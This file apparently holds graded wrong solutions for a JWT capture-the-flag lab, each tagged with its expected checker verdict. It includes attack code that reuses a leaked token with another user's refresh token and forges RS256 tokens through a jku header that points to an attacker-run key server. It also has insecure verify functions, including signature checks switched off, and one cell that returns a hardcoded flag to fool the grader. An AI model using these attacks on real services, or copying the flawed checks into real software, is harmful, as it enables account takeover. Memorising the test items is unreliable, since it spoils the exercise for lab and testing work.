# %% attack_second_token -> keyerror
# The own token comes back as a token of user 7, who may not read the flag.
def attack_second_token(url):
    own = requests.post(f"{url}/token").json()["token"]
    second = requests.get(f"{url}/refresh_token").json()["refresh_token"]
    both = {"token": own, "refresh_token": second}
    token = requests.post(f"{url}/token/refresh", json=both).json()["token"]
    return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% attack_second_token -> keyerror
# The lost token itself has expired.
def attack_second_token(url):
    lost = requests.get(f"{url}/log").json()["lines"][0].split()[-1]
    return requests.get(f"{url}/flag", headers=bearer(lost)).json()["flag"]


# %% attack_second_token -> a flag begins with flag-
# The token, not the flag.
def attack_second_token(url):
    lost = requests.get(f"{url}/log").json()["lines"][0].split()[-1]
    second = requests.get(f"{url}/refresh_token").json()["refresh_token"]
    both = {"token": lost, "refresh_token": second}
    return requests.post(f"{url}/token/refresh", json=both).json()["token"]


# %% attack_second_token -> it must return a text
# The whole answer.
def attack_second_token(url):
    lost = requests.get(f"{url}/log").json()["lines"][0].split()[-1]
    second = requests.get(f"{url}/refresh_token").json()["refresh_token"]
    both = {"token": lost, "refresh_token": second}
    token = requests.post(f"{url}/token/refresh", json=both).json()["token"]
    return requests.get(f"{url}/flag", headers=bearer(token)).json()


# %% attack_second_token -> each has another one
# A flag that was stolen before.
def attack_second_token(url):
    return "flag-0123456789abcdef0123456789abcdef"


# %% refresh -> the lost token of user 1 with the refresh token of user 7
# As it was.
def refresh(owner_of, key):
    claims = jwt.decode(request.json["token"], key, ["HS256"], options={"verify_exp": False})
    if request.json.get("refresh_token") not in owner_of:
        abort(401)
    return {"token": jwt.encode({"sub": claims["sub"], "exp": int(time.time()) + 3600}, key)}


# %% refresh -> an honest user was refused
# Nobody with an expired token: then nobody needs a refresh.
def refresh(owner_of, key):
    try:
        user = jwt.decode(request.json["token"], key, ["HS256"])["sub"]
    except jwt.InvalidTokenError:
        abort(401)
    if owner_of.get(request.json.get("refresh_token")) != user:
        abort(401)
    return {"token": jwt.encode({"sub": user, "exp": int(time.time()) + 3600}, key)}


# %% refresh -> an honest user was refused
# The refresh is switched off.
def refresh(owner_of, key):
    return {}, 401


# %% refresh -> never expires
# The new token has no exp, as in the broken server.
def refresh(owner_of, key):
    owner = owner_of.get(request.json.get("refresh_token"))
    return {"token": jwt.encode({"sub": owner}, key)} if owner else ({}, 401)


# %% refresh -> keyerror
# A refresh token of nobody stops the server.
def refresh(owner_of, key):
    owner = owner_of[request.json["refresh_token"]]
    return {"token": jwt.encode({"sub": owner, "exp": int(time.time()) + 3600}, key)}


# %% attack_key_set -> keyerror
# The own key, and the key set of the server: the signature does not fit.
def attack_key_set(url):
    pair = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    names = {"kid": "1", "jku": f"{url}/keys.json"}
    token = jwt.encode({"sub": "1"}, pair, "RS256", headers=names)
    return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% attack_key_set -> keyerror
# The own server has ended before the token is sent.
def attack_key_set(url):
    pair = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = RSAAlgorithm.to_jwk(pair.public_key(), as_dict=True) | {"kid": "1"}
    thief = Flask("thief", static_folder=None)
    thief.get("/keys.json", endpoint="keys")(lambda: {"keys": [public]})
    with serve(thief) as own:
        names = {"kid": "1", "jku": f"{own.url}/keys.json"}
    token = jwt.encode({"sub": "1"}, pair, "RS256", headers=names)
    return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% attack_key_set -> keyerror
# The key in the set has no name.
def attack_key_set(url):
    pair = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = RSAAlgorithm.to_jwk(pair.public_key(), as_dict=True)
    thief = Flask("thief", static_folder=None)
    thief.get("/keys.json", endpoint="keys")(lambda: {"keys": [public]})
    with serve(thief) as own:
        names = {"kid": "1", "jku": f"{own.url}/keys.json"}
        token = jwt.encode({"sub": "1"}, pair, "RS256", headers=names)
        return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% attack_key_set -> keyerror
# The key beside the set: the answer is one key, and no set.
def attack_key_set(url):
    pair = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = RSAAlgorithm.to_jwk(pair.public_key(), as_dict=True) | {"kid": "1"}
    thief = Flask("thief", static_folder=None)
    thief.get("/keys.json", endpoint="keys")(lambda: public)
    with serve(thief) as own:
        names = {"kid": "1", "jku": f"{own.url}/keys.json"}
        token = jwt.encode({"sub": "1"}, pair, "RS256", headers=names)
        return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% verify -> the right address stands behind it
# The right address may stand anywhere in it.
def verify(token, key):
    address = jwt.get_unverified_header(token)["jku"]
    if request.url_root + "keys.json" not in address:
        raise jwt.InvalidTokenError("another address")
    found = jwt.PyJWKClient(address).get_signing_key_from_jwt(token)
    return jwt.decode(token, found, ["RS256"])


# %% verify -> the header host
# The own address, as the caller tells it.
def verify(token, key):
    address = jwt.get_unverified_header(token)["jku"]
    if address != request.url_root + "keys.json":
        raise jwt.InvalidTokenError("another address")
    found = jwt.PyJWKClient(address).get_signing_key_from_jwt(token)
    return jwt.decode(token, found, ["RS256"])


# %% verify -> sent a request
# It asks first, and takes its own key then.
def verify(token, key):
    jwt.PyJWKClient(jwt.get_unverified_header(token)["jku"]).get_jwk_set()
    return jwt.decode(token, key.public_key(), ["RS256"])


# %% verify -> expired an hour ago
# exp is not looked at any more.
def verify(token, key):
    return jwt.decode(token, key.public_key(), ["RS256"], options={"verify_exp": False})


# %% verify -> an honest user was refused
# The method itself, without a call.
def verify(token, key):
    return jwt.decode(token, key.public_key, ["RS256"])


# %% refresh -> look at what your code returns
# Nothing is returned.
def refresh(owner_of, key):
    jwt.encode({"sub": owner_of[request.json["refresh_token"]]}, key)


# %% verify -> got in
# The token is read, and not verified.
def verify(token, key):
    return jwt.decode(token, options={"verify_signature": False})
